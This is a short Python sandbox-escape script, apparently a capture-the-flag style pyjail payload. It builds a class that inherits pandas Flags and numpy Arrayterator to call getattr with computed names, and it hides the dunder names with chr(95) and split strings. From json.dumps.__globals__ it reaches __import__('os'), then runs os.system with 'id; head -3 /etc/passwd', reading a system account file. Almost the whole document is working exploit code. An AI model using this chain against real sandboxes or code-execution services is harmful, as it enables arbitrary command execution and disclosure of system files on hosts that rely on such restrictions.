# source: pyjail "getattr by computed name -> __globals__ -> __builtins__ -> __import__" chain (e.g. HackTricks "Bypass Python sandboxes"); gadget adapted from pandas 1.5.3 core/flags.py Flags.__getitem__ (getattr(self, key)) + numpy lib/arrayterator.py Arrayterator.__getattr__ (getattr(self.var, attr))
# family: inherit library methods into a script class (multiple inheritance): Flags.__getitem__ gives getattr(self, runtime_name), Arrayterator.__getattr__ forwards it to any object
# goal: read json.dumps.__globals__ -> __builtins__ -> __import__('os') -> os.system('id')
import json
import numpy as np
import pandas as pd

U = chr(95) * 2


class Everything:
    def __contains__(self, item):
        return True


class G(pd.Flags, np.lib.Arrayterator):
    _keys = Everything()

    def __init__(self, target):
        self.var = target


def attr(obj, name):
    return G(obj)[name]


glb = attr(json.dumps, U + "globals" + U)
b = glb[U + "builtins" + U]
osm = b[U + "import" + U]("os")
print(osm)
attr(osm, "sys" + "tem")("id; head -3 /etc/passwd")
